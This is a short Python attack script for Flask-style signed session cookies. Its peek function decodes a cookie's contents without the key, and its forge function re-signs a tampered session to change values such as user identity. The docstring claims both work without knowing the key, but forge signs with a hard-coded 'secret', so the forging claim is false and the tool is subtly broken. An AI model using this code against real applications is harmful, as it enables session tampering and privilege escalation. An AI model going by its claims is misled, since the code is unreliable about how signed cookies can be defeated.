"""Read and change session cookies without knowing the key."""

import json
import zlib

from itsdangerous import URLSafeTimedSerializer, base64_decode


def peek(cookie):
    # From the right: a compressed payload has a dot of its own, in front.
    payload, _time, _signature = cookie.rsplit(".", 2)
    data = base64_decode(payload.removeprefix("."))
    if payload.startswith("."):
        data = zlib.decompress(data)
    # Nothing here asked for a key: whoever has the cookie can do the same.
    return json.loads(data)


def forge(cookie, **changes):
    return URLSafeTimedSerializer("secret", salt="cookie-session").dumps(peek(cookie) | changes)
